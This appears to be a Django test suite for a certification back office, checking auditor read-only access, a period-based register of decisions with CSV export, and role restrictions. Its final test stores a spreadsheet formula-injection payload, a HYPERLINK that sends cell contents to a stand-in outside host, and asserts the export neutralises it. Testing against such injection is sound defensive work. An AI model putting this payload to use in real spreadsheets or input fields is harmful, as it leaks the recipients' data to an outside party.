"""The auditor reads files and the register of decisions of a period, and acts on nothing."""

import csv
import io
from datetime import date

from django.urls import reverse

from qualimark.accounts.models import User
from qualimark.certification import services as certification
from qualimark.certification.models import Certificate, Decision
from tests.backoffice.conftest import SignIn


def test_the_auditor_reads_a_file_but_is_offered_no_decision_and_cannot_take_one(
    sign_in: SignIn, auditor: User, certified: Certificate
) -> None:
    client = sign_in(auditor)
    page = client.get(reverse("backoffice:file", args=(certified.number,)))
    assert page.status_code == 200
    assert page.context["actions"] == []

    refused = client.post(
        reverse("backoffice:decide", args=(certified.number, "suspend")),
        {"reason": "Looks wrong.", "effective": "2026-03-16"},
    )
    assert refused.status_code == 403
    assert not Decision.objects.filter(certificate=certified, transition="suspend").exists()


def test_the_register_lists_the_decisions_of_a_period_and_downloads_them_all(
    sign_in: SignIn,
    auditor: User,
    certified: Certificate,
    decision_maker: User,
    tra_829: object,
) -> None:
    certification.suspend_certificate(
        certified,
        by=decision_maker,
        reason="Tensile tests missing.",
        effective=date(2026, 3, 10),
        evidence=[certification.EvidenceLink("Report 2026-00001", "https://example.org/r/1")],
    )
    client = sign_in(auditor)

    period = {"start": "2026-02-01", "end": "2026-03-31"}
    page = client.get(reverse("backoffice:decisions"), period)
    assert page.status_code == 200
    assert page.context["count"] == 2  # the grant of 2 February and the suspension
    assert [row[4] for row, _evidence, _mark in page.context["rows"]] == [
        "grant the certificate",
        "suspend the certificate",
    ]
    assert '<a href="https://example.org/r/1">Report 2026-00001</a>' in page.content.decode()

    download = client.get(reverse("backoffice:decisions-csv"), period)
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(download.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["effective from", "file", "holder"]
    suspension = rows[2]
    assert suspension[:2] == ["2026-03-10", certified.number]
    assert suspension[11:] == [
        "Tensile tests missing.",
        "Report 2026-00001 (https://example.org/r/1)",
        "PTV 829 2021.2, TRA 829 2022.1",
        "",
    ]


def test_a_period_that_ends_before_it_starts_is_a_form_error(
    sign_in: SignIn, auditor: User
) -> None:
    page = sign_in(auditor).get(
        reverse("backoffice:decisions"), {"start": "2026-03-31", "end": "2026-01-01"}
    )
    assert page.status_code == 200
    assert page.context["form"].errors


def test_an_inspector_does_not_read_the_register(
    sign_in: SignIn, inspector: User, body: object
) -> None:
    assert sign_in(inspector).get(reverse("backoffice:decisions")).status_code == 403
    assert sign_in(inspector).get(reverse("backoffice:decisions-csv")).status_code == 403


def test_what_a_holder_typed_never_runs_as_a_formula_in_the_csv(
    sign_in: SignIn, auditor: User, certified: Certificate, holder_member: User
) -> None:
    certification.renounce_certificate(
        certified, by=holder_member, reason='=HYPERLINK("https://x.example/?"&A1;"here")'
    )
    download = sign_in(auditor).get(
        reverse("backoffice:decisions-csv"), {"start": "2026-01-01", "end": "2026-12-31"}
    )
    text = b"".join(download.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    renounced = list(csv.reader(io.StringIO(text)))[-1]
    assert renounced[11] == '\'=HYPERLINK("https://x.example/?"&A1;"here")'
